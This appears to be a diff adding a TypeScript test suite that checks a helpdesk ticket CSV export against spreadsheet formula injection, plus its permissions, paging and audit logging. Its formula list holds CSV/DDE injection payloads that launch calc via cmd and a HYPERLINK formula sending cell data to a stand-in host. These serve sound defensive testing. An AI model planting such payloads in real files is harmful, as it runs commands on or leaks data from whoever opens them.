@@ -1,0 +1,165 @@
+import assert from "node:assert/strict"
+import { once } from "node:events"
+import { get } from "node:http"
+import type { AddressInfo } from "node:net"
+import { test } from "node:test"
+import { parse } from "csv-parse/sync"
+import { createTeam } from "#people/index.ts"
+import { ticketRoutes } from "#tickets/index.ts"
+import { acting, type Client, member, openDesk } from "#test/desks/test-desk.ts"
+import { openMessageSource } from "#test/desks/message-source.ts"
+import { csv } from "./csv-export.ts"
+import { searchRoutes } from "./routes.ts"
+
+const desk = await openDesk((app, kit) => {
+  ticketRoutes(app, kit)
+  searchRoutes(app, kit)
+})
+const root = await member(desk, { email: "root@example.com", name: "Root", role: "admin" })
+const ana = await member(desk, { email: "ana@example.com", name: "Ana", role: "agent" })
+const damian = await member(desk, { email: "damian@example.com", name: "Damián", role: "user" })
+const team = await acting(desk, (act) => createTeam(act, { name: "Ventas", memberIds: [ana.userId] }))
+const [door, elsewhere] = [await openMessageSource(desk, { teamIds: [team.id] }), await openMessageSource(desk)]
+
+const taken = async (who: Client, query = "") => {
+  const authorization = `Bearer ${who.key}`
+  const answer = await desk.app.inject({ url: `/api/v1/tickets/export${query}`, headers: { authorization } })
+  const rows = answer.statusCode === 200 ? parse<Record<string, string>>(answer.body, { columns: true, bom: true }) : []
+  return { status: answer.statusCode, headers: answer.headers, text: answer.body, rows }
+}
+const exportEvents = () =>
+  desk.db.kysely
+    .selectFrom("events")
+    .select(["actorId", "data"])
+    .where("kind", "=", "tickets.exported")
+    .orderBy("id")
+    .execute()
+
+// What spreadsheets have been made to calculate, payloadbox and more.
+const formulas = [
+  `DDE ("cmd";"/C calc";"!A0")A0`,
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  '=HYPERLINK("http://example.com?x="&A1,"see")',
+  "-2+3+cmd|' /C calc'!A0",
+  "+573001234567",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  `"=1+1`,
+  "a,=1+1",
+  'x"\r\n=1+1',
+]
+
+/** As Excel and LibreOffice do: CR, LF and CRLF end a row wherever no quote is open, a cell is unquoted and then looked at. */
+function readAsSpreadsheet(text: string): string[][] {
+  const rows: string[][] = [[""]]
+  let isQuoted = false
+  for (let at = 0; at < text.length; at++) {
+    const row = rows.at(-1)!
+    const add = (sign: string) => (row[row.length - 1] += sign)
+    const char = text[at]!
+    if (isQuoted && char === '"' && text[at + 1] === '"') add(text[at++]!)
+    else if (char === '"' && (isQuoted || row.at(-1) === "")) isQuoted = !isQuoted
+    else if (isQuoted) add(char)
+    else if (char === ",") row.push("")
+    else if (char === "\r" || char === "\n") {
+      if (char === "\r" && text[at + 1] === "\n") at++
+      rows.push([""])
+    } else add(char)
+  }
+  return rows.slice(0, -1)
+}
+
+test("a spreadsheet reads one row for each, whatever ends a line in its cells, and calculates none", () => {
+  const ends = ["\n", "\r", "\r\n", "\n\r", "\u2028", "\u2029", "\u0085", "\v", "\f"]
+  const texts = ends.flatMap((end) => formulas.map((formula) => `Bob${end}${formula}`))
+  const rows = readAsSpreadsheet(csv([...texts, ...formulas].map((text, i) => [i, text, "x"])))
+  assert.equal(rows.length, texts.length + formulas.length)
+  for (const row of rows) {
+    assert.equal(row.length, 3)
+    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/)
+  }
+  assert.deepEqual(
+    rows.slice(0, texts.length).map(([, cell]) => cell),
+    texts,
+  )
+})
+
+test("no cell begins as a formula, and a phone stays readable", () => {
+  const rows: string[][] = parse(csv(formulas.map((text) => [text])))
+  for (const [i, [cell = ""]] of rows.entries()) {
+    assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/, formulas[i]!)
+    assert.ok(cell === formulas[i] || cell === `'${formulas[i]}`, formulas[i]!)
+  }
+  assert.equal(rows[formulas.indexOf("+573001234567")]![0], "'+573001234567")
+})
+
+test("the export holds what the list holds, for whoever may see it", async () => {
+  const mine = (await door.says("+573004000001", { text: "hola", name: "=cmd|' /C calc'!A0" })).ticket!
+  const foreign = (await elsewhere.says("+573004000002", { text: "hola" })).ticket!
+  const { status, headers, rows, text } = await taken(ana, "?phase=new&sort=number")
+  assert.equal(status, 200)
+  assert.match(String(headers["content-type"]), /^text\/csv; charset=utf-8/)
+  assert.match(String(headers["content-disposition"]), /^attachment/)
+  assert.ok(text.startsWith("\ufeffnumber,id,"))
+  assert.deepEqual(
+    rows.map((row) => [row["number"], row["contact"]]),
+    [[mine.number, "'=cmd|' /C calc'!A0"]],
+  )
+  assert.deepEqual((await taken(root)).rows.map((row) => row["id"]).toSorted(), [mine.id, foreign.id].toSorted())
+  const { actorId, data } = (await exportEvents())[0]!
+  assert.deepEqual([actorId, data], [ana.userId, { filters: ["phase", "sort"], count: 1 }])
+})
+
+test("customers export nothing, and a filter that no list takes is refused", async () => {
+  assert.equal((await taken(damian)).status, 403)
+  for (const query of ["?colour=red", "?limit=5", "?cursor=x", "?createdFrom=yesterday", "?sort=password"]) {
+    assert.equal((await taken(ana, query)).status, 400, query)
+  }
+})
+
+test("more than one page comes whole and in order", async () => {
+  const [first] = await desk.db.kysely.selectFrom("tickets").select("contactId").limit(1).execute()
+  await desk.db.kysely
+    .insertInto("tickets")
+    .values(
+      Array.from({ length: 1_200 }, (_, n) => ({
+        id: `tkt_export${String(n).padStart(6, "0")}`,
+        kind: "support",
+        status: "open",
+        channel: "web",
+        contactId: first!.contactId,
+        lastMessageAt: desk.now(),
+        createdByKind: "system",
+        createdAt: new Date(desk.now().getTime() - n * 1_000),
+        updatedAt: desk.now(),
+      })),
+    )
+    .execute()
+  const { rows } = await taken(root, "?kind=support")
+  assert.equal(rows.length, 1_200)
+  assert.deepEqual(
+    rows.map((row) => row["createdAt"]),
+    rows
+      .map((row) => row["createdAt"])
+      .toSorted()
+      .toReversed(),
+  )
+})
+
+test("a reader who hangs up ends the export, which is on record with what was taken", async () => {
+  await desk.app.listen({ port: 0, host: "127.0.0.1" })
+  const before = (await exportEvents()).length
+  const { port } = desk.app.server.address() as AddressInfo
+  const headers = { authorization: `Bearer ${root.key}` }
+  const request = get({ port, host: "127.0.0.1", path: "/api/v1/tickets/export?kind=support", headers })
+  const [response] = (await once(request, "response")) as [NodeJS.ReadableStream & { destroy: () => void }]
+  await once(response, "data")
+  response.destroy()
+  const recorded = async () => (await exportEvents()).slice(before)
+  while ((await recorded()).length === 0) await new Promise((go) => setImmediate(go))
+  assert.ok(((await recorded())[0]!.data as { count: number }).count <= 1_200)
+})
